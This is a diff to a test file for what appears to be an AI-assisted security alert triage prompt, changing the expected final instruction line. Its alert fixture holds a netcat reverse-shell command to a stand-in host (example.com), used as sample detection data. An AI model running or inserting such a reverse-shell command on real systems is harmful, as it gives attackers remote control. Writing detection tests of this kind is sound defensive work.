@@ -224,8 +224,10 @@ async def test_prompt_sends_the_output_message_once_and_names_the_evidence_ids(k
     alert = json.loads(text.split("<alert_data>", 1)[1].split("</alert_data>", 1)[0])
     assert alert["output"] == "Netcat runs inside container that allows remote code execution"
     assert alert["fields"]["proc.cmdline"] == "nc -e /bin/sh example.com 22"
-    assert text.splitlines()[0].endswith(
-        "Evidence ids to cite: netcat-exec, actor-falco-event-generator, known-cause-4, known-cause-1."
+    assert text.splitlines()[-1] == (
+        "Answer: summary in full sentences naming `nc` and `eventgen`; analysis in 3 to 5 sentences of "
+        "your own; verdict_reason: why the verdict is likely-benign, naming one of the evidence ids "
+        "netcat-exec, actor-falco-event-generator, known-cause-4, known-cause-1."
     )
     # An older line (values in parentheses, fewer fields) is sent whole.
     fake = ToolCallingFake(responses=[tool_reply(good_answer())])
